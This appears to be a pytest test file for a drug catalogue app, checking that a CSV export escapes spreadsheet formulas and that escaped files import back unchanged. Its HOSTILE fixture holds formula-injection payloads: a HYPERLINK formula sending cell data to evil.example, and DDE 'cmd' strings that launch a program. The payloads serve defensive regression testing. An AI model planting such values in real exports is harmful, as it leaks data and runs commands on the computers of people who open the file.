"""Finding 10: the catalogue export cannot carry a formula into the admin's spreadsheet, and an
exported file still imports back exactly as it was."""

import csv
import io

from sqlalchemy import select

from app.drugs import services
from app.drugs.models import Drug
from tests.drugs.conftest import drug_row

HOSTILE = {
    "generic_name_en": '=HYPERLINK("http://evil.example/?"&A1,"Amlodipine")',
    "brand_name": "+cmd|' /C calc'!A0",
    "notes": "-2+3 packs; check before dispensing",
    "generic_name_zh": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def exported_rows(client) -> dict[str, dict[str, str]]:
    response = client.get("/drugs/export.csv")
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    return {row["code"]: row for row in csv.DictReader(io.StringIO(text))}, text


def test_finding_10_the_csv_export_escapes_cells_a_spreadsheet_would_run(client, login_as, db):
    services.create_drug(drug_row(code="FORMULA-1", **HOSTILE))
    services.create_drug(drug_row(code="PLAIN-1", brand_name="'quoted' on purpose"))
    db.session.commit()
    login_as("admin")

    rows, text = exported_rows(client)

    for column, value in HOSTILE.items():
        assert rows["FORMULA-1"][column] == "'" + value
    every_cell = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Nothing else moved: numbers (all positive) and ordinary text are written as they are.
    assert rows["PLAIN-1"]["brand_name"] == "'quoted' on purpose"
    assert (rows["FORMULA-1"]["price_fen"], rows["FORMULA-1"]["strength"]) == ("3920", "5")


def test_an_escaped_export_imports_back_without_a_change(client, login_as, db):
    services.create_drug(drug_row(code="FORMULA-2", **HOSTILE))
    services.create_drug(drug_row(code="APOSTROPHE-1", brand_name="'=not a formula, a name"))
    db.session.commit()
    login_as("admin")
    _, text = exported_rows(client)

    summary = services.load_csv_text(text)

    assert summary.created == [] and summary.updated == []
    drug = db.session.scalar(select(Drug).where(Drug.code == "FORMULA-2"))
    assert {column: getattr(drug, column) for column in HOSTILE} == HOSTILE
    assert db.session.scalar(select(Drug.brand_name).where(Drug.code == "APOSTROPHE-1")) == \
        "'=not a formula, a name"
